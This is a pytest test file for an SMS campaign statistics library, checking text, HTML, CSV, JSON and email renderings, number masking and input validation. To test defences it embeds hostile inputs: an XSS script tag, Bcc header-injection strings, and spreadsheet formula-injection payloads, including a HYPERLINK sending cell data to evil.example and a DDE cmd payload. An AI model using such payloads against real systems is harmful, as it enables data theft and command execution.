"""Renderings of reports, statistics and histories: text, HTML, CSV, JSON and email.

Golden files live in ``tests/golden/`` and are compared exactly. After an intended change of a
rendering, regenerate them and review the diff before committing::

    UPDATE_GOLDEN=1 python -m pytest tests/test_renderings.py --no-cov
"""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import os
import re
from collections.abc import Callable
from datetime import timedelta
from decimal import Decimal
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sms_campaign_stats import (
    BounceReason,
    Campaign,
    CampaignReport,
    GlobalStatistics,
    InMemoryStorage,
    Message,
    ValidationError,
    global_statistics,
)
from sms_campaign_stats.lifecycle import TimelineKind
from sms_campaign_stats.model import CampaignChange, Reply, TimelineEvent, Unsubscribe
from sms_campaign_stats.reports import Timeline, report_from_messages
from sms_campaign_stats.testing import T0, sample_campaign

from .strategies import CAMPAIGN, campaign_data

GOLDEN = Path(__file__).resolve().parent / "golden"
UPDATE = os.environ.get("UPDATE_GOLDEN") == "1"

#: The phone number hidden in the history's details, in its two spellings.
NUMBER = "+33612345678"
SPACED = "+33 6 12 34 56 78"
DIGITS = "612345678"  # what must never appear in full when numbers are masked


# --- the fixed report ------------------------------------------------------------------------


def build_campaign(
    name: str = "Spring sale", lists: tuple[str, ...] = ("newsletter", "vip", "winback")
) -> tuple[Campaign, Timeline]:
    """A campaign suspended while sending, and its history (a phone number in the details)."""
    campaign, created = sample_campaign(lists=lists)
    campaign = attrs.evolve(campaign, name=name)
    events = [attrs.evolve(created, details={**created.details, "name": name})]
    steps: list[Callable[[Campaign], CampaignChange]] = [
        lambda c: c.schedule(T0 + timedelta(hours=2), at=T0 + timedelta(minutes=5)),
        lambda c: c.start(at=T0 + timedelta(hours=2)),
        lambda c: c.suspend(
            at=T0 + timedelta(hours=3),
            reason=f"hard bounces 30% > 10%; last one to {SPACED}",
            evidence={"rate": 0.3, "threshold": 0.1, "sample": 10, "last_recipient": NUMBER},
        ),
    ]
    for step in steps:
        change = step(campaign)
        campaign = change.campaign
        events.append(change.event)
    return campaign, Timeline(campaign_id=campaign.id, campaign_name=name, events=tuple(events))


def build_report(
    name: str = "Spring sale",
    lists: tuple[str, ...] = ("newsletter", "vip", "winback"),
    pricing: str = "per_submission",
) -> tuple[CampaignReport, Timeline]:
    """Several lists, bounces of four reasons (two avoidable), replies, an unsubscribe, a
    message still processing, a cancelled one, a retry that delivered and a compensable soft
    bounce (the platform's fault, retried once)."""
    campaign, history = build_campaign(name, lists)
    first, second, third = lists
    at = T0 + timedelta(hours=2, minutes=30)

    def message(index: int, in_lists: list[str]) -> Message:
        return Message.for_campaign(
            campaign,
            id=f"m{index}",
            recipient=f"+3360000000{index}",
            list_ids=in_lists,
            queued_at=T0,
        )

    found = [
        message(1, [first, second]).submit(at=at).deliver(at=at),
        message(2, [first]).submit(at=at).deliver(at=at),
        # Delivered at its second attempt: the first one is billed and spent on a bounce.
        message(3, [second])
        .submit(at=at)
        .requeue(BounceReason.HANDSET_OFF_OR_OUT_OF_COVERAGE)
        .submit(at=at)
        .deliver(at=at),
        message(4, [first]).soft_bounce(BounceReason.LANDLINE_NUMBER, at=at),
        message(5, [third]).submit(at=at).hard_bounce(BounceReason.NUMBER_DOES_NOT_EXIST, at=at),
        message(6, [third]).submit(at=at).hard_bounce(BounceReason.NUMBER_DOES_NOT_EXIST, at=at),
        message(7, [second])
        .submit(at=at)
        .soft_bounce(BounceReason.SENT_OUTSIDE_ALLOWED_HOURS, at=at),
        message(8, [first]).submit(at=at),
        message(9, [third]).cancel(at=at),
        # The platform failed twice: a compensable soft bounce, both attempts billed.
        message(10, [third])
        .submit(at=at)
        .requeue(BounceReason.PROVIDER_UNKNOWN_FAILURE, provider="vonage")
        .submit(at=at)
        .soft_bounce(BounceReason.PROVIDER_UNKNOWN_FAILURE, at=at, provider="vonage"),
    ]
    replies = [
        Reply(id=f"r{i}", recipient="+33600000001", at=at, text="Merci", campaign_id=campaign.id)
        for i in range(2)
    ]
    unsubscribes = [
        Unsubscribe(
            id="u1", recipient="+33600000002", at=at, keyword="STOP", campaign_id=campaign.id
        )
    ]
    report = report_from_messages(
        campaign,
        found,
        replies=replies,
        unsubscribes=unsubscribes,
        activity=True,
        pricing=pricing,
    )
    return report, history


def build_statistics() -> GlobalStatistics:
    """Two campaigns in two currencies (EUR, then USD a day later)."""
    campaign, _ = build_campaign()
    autumn = attrs.evolve(
        campaign, id="autumn", name="Autumn sale", currency="USD", created_at=T0 + timedelta(1)
    )
    store = InMemoryStorage()
    store.add_campaign(campaign)
    store.add_campaign(autumn)
    at = T0 + timedelta(days=1, hours=1)
    store.add_messages(
        [
            Message.for_campaign(
                owner,
                id=f"{owner.id}-{i}",
                recipient=f"+3361000000{i}",
                list_ids=lists,
                queued_at=at,
            )
            .submit(at=at)
            .deliver(at=at)
            for owner, lists, count in ((campaign, ["vip"], 3), (autumn, ["newsletter"], 2))
            for i in range(count)
        ]
        + [
            Message.for_campaign(
                autumn, id="autumn-x", recipient="+33610000009", list_ids=["vip"], queued_at=at
            )
            .submit(at=at)
            .hard_bounce(BounceReason.NUMBER_DOES_NOT_EXIST, at=at)
        ]
    )
    return global_statistics(store)


REPORT, HISTORY = build_report()
STATISTICS = build_statistics()


# --- helpers ---------------------------------------------------------------------------------


class Page(HTMLParser):
    """What a test needs of an HTML page: tags, attributes, table rows as cell texts, text."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.rows: list[list[str]] = []
        self.row_classes: list[str] = []
        self.text: list[str] = []
        self._cells: list[str] | None = None
        self._cell: list[str] | None = None
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        if tag == "tr":
            self._cells = []
            self.row_classes.append(dict(attrs).get("class") or "")
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self._cells is not None:
            self._cells.append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "tr" and self._cells is not None:
            self.rows.append(self._cells)
            self._cells = None

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._cell is not None:
            self._cell.append(data)

    def row(self, head: str, index: int = 0, *, count: int = 1) -> list[str]:
        """The cells of the row whose first cell is ``head``: the ``index``-th of the ``count``
        such rows (one table per figure, another per cost...)."""
        found = [row for row in self.rows if row and row[0] == head]
        assert count == len(found), (head, found)
        return found[index]


def check_golden(name: str, text: str) -> None:
    """``text`` equals ``tests/golden/<name>`` exactly (rewritten when UPDATE_GOLDEN=1)."""
    path = GOLDEN / name
    if UPDATE:
        GOLDEN.mkdir(exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
    assert path.read_bytes().decode("utf-8") == text


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_fits(text: str) -> None:
    for line in text.splitlines():
        assert len(line) <= 100, line
        assert line.isprintable(), line


def email_texts(message: EmailMessage) -> str:
    """Every text part of a message, decoded, and its headers."""
    parts = [str(value) for value in message.values()]
    for part in message.walk():
        if not part.is_multipart():
            assert isinstance(part, EmailMessage)
            parts.append(part.get_content())
    return "\n".join(parts)


def round_trip(message: EmailMessage) -> EmailMessage:
    back = email.message_from_bytes(message.as_bytes(), policy=email.policy.default)
    assert isinstance(back, EmailMessage)
    return back


# --- golden files ----------------------------------------------------------------------------


def csv_file(files: Callable[[], dict[str, str]], name: str) -> Callable[[], str]:
    return lambda: files()[name]


GOLDEN_RENDERINGS: dict[str, Callable[[], str]] = {
    "report.txt": lambda: REPORT.to_text(),
    "report-with-history.txt": lambda: REPORT.to_text(history=HISTORY),
    "report.json": lambda: REPORT.to_json(),
    **{f"report-{name}": csv_file(REPORT.to_csv, name) for name in REPORT.to_csv()},
    "history.txt": lambda: HISTORY.to_text(),
    "history.csv": lambda: HISTORY.to_csv()["history.csv"],
    "history.json": lambda: HISTORY.to_json(),
    "statistics.txt": lambda: STATISTICS.to_text(),
    "statistics.json": lambda: STATISTICS.to_json(),
    **{f"statistics-{name}": csv_file(STATISTICS.to_csv, name) for name in STATISTICS.to_csv()},
    # French (issue 15, point 6): the words, Babel's numbers and money, the CSV headers.
    "fr-report-with-history.txt": lambda: REPORT.to_text(history=HISTORY, locale="fr"),
    "fr-statistics.txt": lambda: STATISTICS.to_text(locale="fr"),
    "fr-report-lists.csv": lambda: REPORT.to_csv(locale="fr")["lists.csv"],
    "fr-history.csv": lambda: HISTORY.to_csv(locale="fr")["history.csv"],
}


@pytest.mark.parametrize("name", sorted(GOLDEN_RENDERINGS))
def test_golden(name: str) -> None:
    """Each rendering of the fixed report, history and statistics equals its golden file."""
    check_golden(name, GOLDEN_RENDERINGS[name]())


def test_golden_files_are_all_used() -> None:
    """No stale golden file is left behind."""
    assert set(GOLDEN_RENDERINGS) == {path.name for path in GOLDEN.iterdir()}


# --- text ------------------------------------------------------------------------------------

LONG_NAME = "Sale " * 60  # 300 characters
LONG_LIST = "l" * 256  # the longest list id there is


@pytest.mark.parametrize(
    ("name", "lists"),
    [
        ("Spring sale", ("newsletter", "vip", "winback")),
        (LONG_NAME, (LONG_LIST, "vip", "winback")),
        ("Line one\nline\ttwo\x1b[31m", ("a", "b", "c")),
    ],
)
def test_text_fits_100_printable_columns(name: str, lists: tuple[str, ...]) -> None:
    """Every text rendering fits 100 columns and is printable, whatever the names."""
    report, history = build_report(name, lists)
    long_detail = attrs.evolve(
        history.events[-1], details={"reason": "x" * 250, "evidence": {LONG_LIST: LONG_NAME}}
    )
    history = attrs.evolve(history, events=(*history.events, long_detail))
    stats = attrs.evolve(
        STATISTICS,
        rows=tuple(
            attrs.evolve(row, campaign_name=name, campaign_id=lists[0]) for row in STATISTICS.rows
        ),
    )
    for text in (
        report.to_text(),
        report.to_text(history=history),
        report.to_text(history=history, show_numbers=True),
        history.to_text(),
        stats.to_text(),
    ):
        assert_fits(text)


def test_text_report_sections() -> None:
    """The history follows the report, masked; the report alone is unchanged by it."""
    alone = REPORT.to_text()
    with_history = REPORT.to_text(history=HISTORY)
    assert with_history.startswith(alone)
    assert "History (times in UTC)" in with_history
    assert "History" not in alone
    assert "2026-03-02 12:00:00  suspended" in with_history
    assert "+336******78" in with_history


def test_empty_renderings() -> None:
    """No lists, no bounces, no events, no campaigns: every rendering still says so."""
    campaign = attrs.evolve(CAMPAIGN, list_ids=())
    report = report_from_messages(campaign, [])
    empty = Timeline(campaign_id=campaign.id, campaign_name=campaign.name, events=())
    text = report.to_text(history=empty)
    assert "Per list" not in text
    assert "Bounce reasons" not in text
    assert text.endswith("History (times in UTC)\n(no events)\n")
    assert "Delivered         0  -  of recipients" in text
    page = Page(report.to_html(history=empty))
    assert ["Delivered", "0", "-", "of recipients"] == page.row("Delivered")
    body = "".join(page.text)
    assert "No lists." in body
    assert "No bounces." in body
    assert "No events." in body
    files = report.to_csv()
    assert ["summary.csv", "lists.csv", "bounce_reasons.csv"] == list(files)
    assert files["lists.csv"].startswith("list_id,recipients,")
    assert 1 == files["lists.csv"].count("\n")
    assert 1 == files["bounce_reasons.csv"].count("\n")
    (summary,) = read_csv(files["summary.csv"])
    assert ("0", "") == (summary["recipients"], summary["delivered_percent"])
    assert {"history.csv": "at,kind,details\n"} == empty.to_csv()
    stats = global_statistics(InMemoryStorage())
    assert "(none)" in stats.to_text()
    assert "Cost per campaign" not in stats.to_text()
    assert "No cost." in "".join(Page(stats.to_html()).text)
    assert {"campaigns.csv", "totals.csv", "costs.csv"} == set(stats.to_csv())
    assert 1 == stats.to_csv()["campaigns.csv"].count("\n")
    assert 2 == stats.to_csv()["totals.csv"].count("\n")


# --- HTML ------------------------------------------------------------------------------------


def assert_self_contained(page: Page, source: str) -> None:
    assert "script" not in page.tags
    for name, _ in page.attributes:
        assert name not in ("src", "href", "srcset", "action")
        assert not name.startswith("on")
    for tag in ("link", "img", "iframe", "object", "embed", "base", "form"):
        assert tag not in page.tags
    assert "url(" not in source
    assert "@import" not in source


def test_html_report_figures() -> None:
    """The document holds the summary, the four outcomes, each list, the reasons, the cost and
    the history, is self-contained and printable."""
    source = REPORT.to_html(history=HISTORY)
    page = Page(source)
    assert source.startswith("<!DOCTYPE html>")
    assert ["html", "head"] == page.tags[:2]
    assert_self_contained(page, source)
    assert "@media print" in source
    assert ["Campaign", "Spring sale"] == page.row("Campaign")
    assert ["Campaign id", "spring-sale"] == page.row("Campaign id")
    assert ["Sender", "MyShop"] == page.row("Sender")
    assert ["Status", "suspended"] == page.row("Status")
    assert ["Recipients", "9"] == page.row("Recipients")
    assert ["Cancelled", "1"] == page.row("Cancelled")
    for label, count, percent, of in (
        ("Delivered", "3", "33.33%", "of recipients"),
        ("Soft bounces", "3", "33.33%", "of recipients"),
        ("Hard bounces", "2", "22.22%", "of recipients"),
        ("Processing", "1", "11.11%", "of recipients"),
        ("Replies", "1", "33.33%", "of delivered"),
        ("Unsubscribes", "1", "33.33%", "of delivered"),
    ):
        assert [label, count, percent, of] == page.row(label)
    assert "2" == page.row("Reply messages")[1]
    assert ["of which never sent", "1", "11.11%", "of recipients"] == page.row(
        "of which never sent"
    )
    expected_lists = {
        "newsletter": (["4", "2", "50.00%", "1", "0", "1", "1", "1"], ["€0.14", "€0.00"]),
        "vip": (["3", "2", "66.67%", "1", "0", "0", "1", "0"], ["€0.18", "€0.09"]),
        "winback": (["3", "0", "0.00%", "1", "2", "0", "0", "0"], ["€0.18", "€0.18"]),
    }
    for list_id, (figures, money) in expected_lists.items():
        assert [list_id, *figures] == page.row(list_id, 0, count=2)
        assert [list_id, *money] == page.row(list_id, 1, count=2)
    assert ["Number does not exist", "hard", "no", "2", "22.22%", "2", "€0.09"] == page.row(
        "Number does not exist"
    )
    assert ["Landline number", "soft", "yes", "1", "11.11%", "0", "€0.00"] == page.row(
        "Landline number"
    )
    assert "yes" == page.row("Sent at a time the country does not allow")[2]
    marked = {row[0] for row, css in zip(page.rows, page.row_classes, strict=True) if css}
    assert {
        "of which on avoidable bounces",
        "Soft bounces",
        "Hard bounces",
        "Unsubscribes",
    } == marked
    assert "€0.45" == page.row("Cost")[1]
    assert ["€0.27", "6 failed submissions"] == page.row("Spent on bounced messages")[1:]
    assert "€0.05" == page.row("of which on avoidable bounces")[1]
    assert "€0.045" == page.row("Unit price (per segment)")[1]
    events = [row for row in page.rows if row[0].startswith("2026-")]
    assert ["created", "scheduled", "started", "suspended"] == [row[1] for row in events]
    assert "reason: hard bounces 30% > 10%; last one to +33 ***********78" in events[-1][2]
    assert "evidence.last_recipient: +336******78" in events[-1][2]


def test_html_without_history_has_no_history() -> None:
    """The history section is there only when a history is given."""
    assert "History" not in "".join(Page(REPORT.to_html()).text)


@pytest.mark.parametrize(
    "render",
    [
        lambda r, h: r.to_html(history=h),
        lambda r, h: r._repr_html_(),
        lambda r, h: h.to_html(),
        lambda r, h: h._repr_html_(),
    ],
)
def test_html_escapes_user_strings(
    render: Callable[[CampaignReport, Timeline], str],
) -> None:
    """A campaign name, a list id and details with markup are shown as text, never run."""
    hostile = "<script>alert(1)</script>"
    report, history = build_report(hostile, ("<script>x</script>", "vip", 'a"b'))
    history = attrs.evolve(
        history,
        events=(*history.events, attrs.evolve(history.events[-1], details={"<img>": hostile})),
    )
    source = render(report, history)
    page = Page(source)
    assert_self_contained(page, source)
    assert "img" not in page.tags
    assert hostile in "".join(page.text)


def test_repr_html_is_a_fragment() -> None:
    """Notebook fragments have no document wrapper, and their style is scoped."""
    for source in (REPORT._repr_html_(), STATISTICS._repr_html_(), HISTORY._repr_html_()):
        page = Page(source)
        assert "html" not in page.tags
        assert "body" not in page.tags
        assert ["style", "div"] == page.tags[:2]
        assert_self_contained(page, source)
    assert "+336******78" in HISTORY._repr_html_()


def test_html_statistics() -> None:
    """One row per campaign and the totals; costs per currency, never converted."""
    source = STATISTICS.to_html()
    page = Page(source)
    assert_self_contained(page, source)
    assert ["spring-sale", "Spring sale", "suspended", "2026-03-02"] == page.row(
        "spring-sale", 0, count=3
    )
    assert ["spring-sale", "3", "3", "100.00%", "0", "0", "0", "0", "0"] == page.row(
        "spring-sale", 1, count=3
    )
    assert ["spring-sale", "€0.14", "€0.00", "€0.00", "0", "€0.00"] == page.row(
        "spring-sale", 2, count=3
    )
    assert ["3", "2", "66.67%", "0", "1"] == page.row("autumn", 1, count=3)[1:6]
    assert ["autumn", "$0.14", "$0.00", "$0.05", "0", "$0.00"] == page.row("autumn", 2, count=3)
    assert ["6", "5", "83.33%", "0", "1"] == page.row("All campaigns")[1:6]
    assert ["EUR", "€0.14", "€0.00", "€0.00", "€0.00"] == page.row("EUR")
    assert ["USD", "$0.14", "$0.00", "$0.05", "$0.00"] == page.row("USD")


def test_html_history_document() -> None:
    """A history alone is a document of its own."""
    source = HISTORY.to_html(show_numbers=True)
    page = Page(source)
    assert_self_contained(page, source)
    assert "History of Spring sale (spring-sale)" in "".join(page.text)
    assert NUMBER in source


# --- CSV and JSON ----------------------------------------------------------------------------


def test_csv_report_files() -> None:
    """Per-list rows with exact money and 2-decimal percentages; reasons flag avoidability."""
    files = REPORT.to_csv()
    assert ["summary.csv", "lists.csv", "bounce_reasons.csv"] == list(files)
    lists = read_csv(files["lists.csv"])
    assert ["newsletter", "vip", "winback"] == [row["list_id"] for row in lists]
    winback = lists[2]
    assert ("3", "1", "2", "66.67", "", "0.180") == (
        winback["recipients"],
        winback["cancelled"],
        winback["hard_bounces"],
        winback["hard_bounces_percent"],
        winback["replies_percent"],
        winback["cost"],
    )
    reasons = read_csv(files["bounce_reasons.csv"])
    assert ["false", "true", "true", "false"] == [row["avoidable_by_sender"] for row in reasons]
    (summary,) = read_csv(files["summary.csv"])
    assert ("0.450", "0.270", "0.045") == (
        summary["cost"],
        summary["bounced_cost"],
        summary["avoidable_bounced_cost"],
    )


def test_csv_money_is_never_in_exponent_notation() -> None:
    """A price given in exponent form still prints as plain decimals."""
    report = attrs.evolve(REPORT, unit_price=Decimal("1E+1"), cost=Decimal("3E+1"))
    (summary,) = read_csv(report.to_csv()["summary.csv"])
    assert ("10", "30") == (summary["unit_price"], summary["cost"])


def test_csv_statistics_files() -> None:
    """campaigns.csv has a row per campaign, totals.csv one row, costs.csv one per currency."""
    files = STATISTICS.to_csv()
    campaigns = read_csv(files["campaigns.csv"])
    assert [("spring-sale", "EUR", "0.135"), ("autumn", "USD", "0.135")] == [
        (row["campaign_id"], row["currency"], row["cost"]) for row in campaigns
    ]
    (totals,) = read_csv(files["totals.csv"])
    assert ("6", "5", "83.33") == (
        totals["recipients"],
        totals["delivered"],
        totals["delivered_percent"],
    )
    costs = read_csv(files["costs.csv"])
    assert [("EUR", "0.135", "0.000"), ("USD", "0.135", "0.045")] == [
        (row["currency"], row["cost"], row["bounced_cost"]) for row in costs
    ]


def test_csv_history_details_are_json() -> None:
    """history.csv's details column parses back to the (masked) details."""
    rows = read_csv(HISTORY.to_csv()["history.csv"])
    assert HISTORY.to_dict()["events"] == [
        {"at": row["at"], "kind": row["kind"], "details": json.loads(row["details"])}
        for row in rows
    ]


@pytest.mark.parametrize("indent", [None, 0, 2, 4])
def test_json_is_to_dict(indent: int | None) -> None:
    """to_json() is to_dict() as JSON text, schema version included."""
    for rendered, shape in (
        (REPORT.to_json(indent=indent), REPORT.to_dict()),
        (STATISTICS.to_json(indent=indent), STATISTICS.to_dict()),
        (HISTORY.to_json(indent=indent), HISTORY.to_dict()),
        (HISTORY.to_json(indent=indent, show_numbers=True), HISTORY.to_dict(show_numbers=True)),
    ):
        assert shape == json.loads(rendered)
        assert 1 == json.loads(rendered)["schema_version"]
        assert rendered.endswith("\n")


# --- email -----------------------------------------------------------------------------------


def test_email_round_trip() -> None:
    """Text and HTML alternatives, the CSV files attached exactly, numbers masked, never sent."""
    message = REPORT.to_email(
        to=["ops@example.com", "Ana <ana@example.com>"],
        sender="reports@shop.example",
        history=HISTORY,
    )
    back = round_trip(message)
    assert "Campaign report: Spring sale (spring-sale)" == back["Subject"]
    assert "reports@shop.example" == back["From"]
    assert ["ops@example.com", "ana@example.com"] == [a.addr_spec for a in back["To"].addresses]
    assert "multipart/mixed" == back.get_content_type()
    body, *attachments = back.iter_parts()
    assert "multipart/alternative" == body.get_content_type()
    plain, rich = body.iter_parts()
    assert isinstance(plain, EmailMessage)
    assert isinstance(rich, EmailMessage)
    assert ("text/plain", "text/html") == (plain.get_content_type(), rich.get_content_type())
    assert REPORT.to_text(history=HISTORY) == plain.get_content()
    assert REPORT.to_html(history=HISTORY) == rich.get_content()
    expected = {**REPORT.to_csv(), **HISTORY.to_csv()}
    found: dict[str, str] = {}
    for part in attachments:
        assert isinstance(part, EmailMessage)
        assert ("text/csv", "attachment") == (
            part.get_content_type(),
            part.get_content_disposition(),
        )
        name = part.get_filename()
        assert name is not None
        found[name] = part.get_content()
    assert expected == found
    assert "Date" not in back


def test_email_without_history_and_with_a_subject() -> None:
    """Only the report's files without a history; a given subject is used as is."""
    back = round_trip(REPORT.to_email(to="ops@example.com", sender="r@x.example", subject="Hi"))
    assert "Hi" == back["Subject"]
    names = [part.get_filename() for part in back.iter_attachments()]
    assert list(REPORT.to_csv()) == names


def test_email_default_subject_is_one_line() -> None:
    """A campaign name with a line break cannot split the subject header."""
    report, _ = build_report("Spring\r\nBcc: evil@example.com")
    back = round_trip(report.to_email(to="ops@example.com", sender="r@x.example"))
    assert "Bcc" not in back
    assert "\n" not in back["Subject"]


@pytest.mark.parametrize(
    ("to", "sender", "subject", "field"),
    [
        ("", "r@x.example", None, "to_email.to"),
        ("   ", "r@x.example", None, "to_email.to"),
        ([], "r@x.example", None, "to_email.to"),
        ("nobody", "r@x.example", None, "to_email.to"),
        (["ops@example.com", "nobody"], "r@x.example", None, "to_email.to[1]"),
        ([42], "r@x.example", None, "to_email.to[0]"),
        ("ops@example.com\r\nBcc: evil@example.com", "r@x.example", None, "to_email.to"),
        ("ops@example.com\nBcc: evil@example.com", "r@x.example", None, "to_email.to"),
        ("ops@example.com", "", None, "to_email.sender"),
        ("ops@example.com", "r@x.example\rBcc: e@x", None, "to_email.sender"),
        ("ops@example.com", "r@x.example", "Hi\r\nBcc: evil@example.com", "to_email.subject"),
        ("ops@example.com", "r@x.example", "Hi\x00", "to_email.subject"),
        ("ops@example.com", "r@x.example", 7, "to_email.subject"),
    ],
)
def test_email_refuses_bad_addresses_and_header_injection(
    to: Any, sender: str, subject: Any, field: str
) -> None:
    """Bad or injected addresses and subjects raise ValidationError naming the field."""
    with pytest.raises(ValidationError) as caught:
        REPORT.to_email(to=to, sender=sender, subject=subject)
    assert field == caught.value.field


@pytest.mark.parametrize(
    ("to", "field"),
    [
        ("ops@x.example, attacker@evil.example", "to_email.to"),  # a second recipient (issue)
        ("ops@x.example\u2028", "to_email.to"),  # the e-mail library's plain ValueError (issue)
        (["ops@x.example", "ops@x.example, attacker@evil.example"], "to_email.to[1]"),
        (["ok@x.example", "ops@x.example\u2029"], "to_email.to[1]"),
        ("ops@x.example\x85", "to_email.to"),  # NEL
        ("ops@x.example\u202e", "to_email.to"),  # a bidi override
        ("team: a@x.example, b@x.example;", "to_email.to"),  # a group
        ('"boss@x.example" <attacker@evil.example>', "to_email.to"),  # a display-name trick
        ("=?utf-8?q?boss=40x.example?= <attacker@evil.example>", "to_email.to"),  # encoded
        ("a@", "to_email.to"),  # IndexError in the e-mail library's parser
        ("<>", "to_email.to"),
        ("a@b@c", "to_email.to"),
        ("\u00fc@x.example", "to_email.to"),  # a local part the header cannot carry
        ("a" * 2000 + "@x.example", "to_email.to"),
        (("ops@x.example",), None),
        ({"ops@x.example"}, "to_email.to"),  # not a sequence: no order to name entries by
    ],
)
def test_email_takes_exactly_one_address_per_entry(to: Any, field: str | None) -> None:
    """Each entry of ``to`` is one address, as the standard library parses it; a bad one is a
    ValidationError naming the entry."""
    if field is None:
        back = round_trip(REPORT.to_email(to=to, sender="r@x.example"))
        assert ["ops@x.example"] == [a.addr_spec for a in back["To"].addresses]
        return
    with pytest.raises(ValidationError) as caught:
        REPORT.to_email(to=to, sender="r@x.example")
    assert field == caught.value.field
    bad_sender: Any = to if isinstance(to, str) else 5
    with pytest.raises(ValidationError) as caught:
        REPORT.to_email(to="ok@x.example", sender=bad_sender)
    assert "to_email.sender" == caught.value.field


@given(st.lists(st.text(max_size=40) | st.emails(), min_size=1, max_size=3))
def test_any_text_is_one_recipient_per_entry_or_a_validation_error(entries: list[str]) -> None:
    """Whatever the texts: one recipient per entry in the header as sent, or a ValidationError
    naming the entry."""
    field = None
    try:
        message = REPORT.to_email(to=entries, sender="r@x.example")
    except ValidationError as error:
        field = error.field
    if field is not None:
        assert field in {f"to_email.to[{i}]" for i in range(len(entries))}
        return
    back = round_trip(message)
    recipients = back["To"].addresses
    assert len(entries) == len(recipients)
    assert ["r@x.example"] == [a.addr_spec for a in back["From"].addresses]
    assert "Bcc" not in back
    assert "Cc" not in back


@pytest.mark.parametrize(
    "render",
    [
        lambda r, h: r.to_text(history=h),
        lambda r, h: r.to_html(history=h),
        lambda r, h: r.to_email(to="a@example.com", sender="b@example.com", history=h),
    ],
)
def test_history_of_another_campaign_is_refused(
    render: Callable[[CampaignReport, Timeline], object],
) -> None:
    """A report and a history of two different campaigns are not mixed."""
    other = attrs.evolve(HISTORY, campaign_id="other")
    with pytest.raises(ValidationError, match="other"):
        render(REPORT, other)


# --- masking ---------------------------------------------------------------------------------


def masked_renderings(show_numbers: bool) -> dict[str, str]:
    """Every rendering that shows the history's details."""
    message = round_trip(
        REPORT.to_email(to="a@example.com", sender="b@example.com", history=HISTORY)
    )
    renderings = {
        "report text": REPORT.to_text(history=HISTORY, show_numbers=show_numbers),
        "report html": REPORT.to_html(history=HISTORY, show_numbers=show_numbers),
        "history text": HISTORY.to_text(show_numbers=show_numbers),
        "history html": HISTORY.to_html(show_numbers=show_numbers),
        "history csv": HISTORY.to_csv(show_numbers=show_numbers)["history.csv"],
        "history json": HISTORY.to_json(show_numbers=show_numbers),
        "history dict": json.dumps(HISTORY.to_dict(show_numbers=show_numbers)),
    }
    if not show_numbers:
        renderings["history repr html"] = HISTORY._repr_html_()
        renderings["email"] = email_texts(message)
    return renderings


@pytest.mark.parametrize("show_numbers", [False, True])
def test_numbers_in_details_are_masked_unless_asked(show_numbers: bool) -> None:
    """The number in the suspension's details never appears in full, unless show_numbers."""
    for name, text in masked_renderings(show_numbers).items():
        compact = "".join(c for c in text if c not in " .-")
        assert show_numbers == (DIGITS in compact), name
        assert show_numbers == (NUMBER in text), name
        assert show_numbers == ("+336******78" not in text), name


def test_timeline_to_dict_masks_by_default() -> None:
    """to_dict() masks; show_numbers=True gives the details exactly as stored."""
    suspended = HISTORY.events[-1]
    assert dict(suspended.details) == HISTORY.to_dict(show_numbers=True)["events"][-1]["details"]
    shown = HISTORY.to_dict()["events"][-1]["details"]
    assert "+336******78" == shown["evidence"]["last_recipient"]


# --- properties ------------------------------------------------------------------------------

Data = tuple[list[Message], list[Reply], list[Unsubscribe]]

details_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=60),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=20), children, max_size=3)
    ),
    max_leaves=10,
)


@given(
    campaign_data(),
    st.text(min_size=1, max_size=300).filter(str.strip),
    st.dictionaries(st.text(max_size=30), details_values, max_size=4),
)
def test_random_reports_render(data: Data, name: str, details: dict[str, Any]) -> None:
    """Any report: text within 100 columns, JSON back to to_dict(), CSV and HTML parse."""
    found, replies, unsubscribes = data
    campaign = attrs.evolve(CAMPAIGN, name=name)
    report = report_from_messages(campaign, found, replies=replies, unsubscribes=unsubscribes)
    event = TimelineEvent(
        campaign_id=campaign.id, at=T0, kind=TimelineKind.SUSPENDED, details=details
    )
    history = Timeline(campaign_id=campaign.id, campaign_name=name, events=(event,))
    assert_fits(report.to_text(history=history))
    assert_fits(history.to_text())
    assert report.to_dict() == json.loads(report.to_json())
    assert history.to_dict() == json.loads(history.to_json())
    lists = read_csv(report.to_csv()["lists.csv"])
    assert [item.list_id for item in report.lists] == [row["list_id"] for row in lists]
    page = Page(report.to_html(history=history))
    assert "script" not in page.tags
    assert str(report.delivered.count) == page.row("Delivered")[1]


def test_statistics_text_mentions_both_currencies() -> None:
    """Costs are per currency in the text, never added across currencies."""
    text = STATISTICS.to_text()
    assert "EUR       €0.14    €0.00       €0.00        €0.00" in text
    assert "USD       $0.14    $0.00       $0.05        $0.00" in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_are_never_formulas(start: str) -> None:
    """A campaign name or list id a spreadsheet would run is written with a leading quote."""
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    list_id = f"{start.strip() or '-'}cmd|' /C calc'!A0"  # ids have no surrounding spaces
    report, _ = build_report(name=hostile, lists=(list_id, "vip", "winback"))
    summary = read_csv(report.to_csv()["summary.csv"])
    lists = read_csv(report.to_csv()["lists.csv"])
    names = [value for row in summary for value in row.values() if "HYPERLINK" in value]
    assert [f"'{hostile}"] == names
    assert f"'{list_id}" == lists[0]["list_id"]
    assert "vip" == lists[1]["list_id"]


def test_dataframes_have_the_csv_columns() -> None:
    """One naming for analysts: a DataFrame's columns are its CSV file's (the per-row currency
    aside: a report has one)."""
    report, _ = build_report()
    frames, files = report.to_pandas(), report.to_csv()
    for table in ("lists", "bounce_reasons"):
        header = next(csv.reader(io.StringIO(files[f"{table}.csv"])))
        assert set(header) - {"currency"} == set(frames[table].reset_index().columns)
    stats = build_statistics()
